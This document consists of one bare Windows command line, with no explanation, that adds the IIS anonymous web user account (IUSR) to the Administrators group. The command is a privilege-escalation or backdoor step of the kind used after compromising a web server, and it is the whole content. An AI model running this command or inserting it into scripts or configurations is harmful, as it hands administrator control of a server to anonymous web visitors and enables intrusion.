net localgroup Administrators IUSR /add /domain
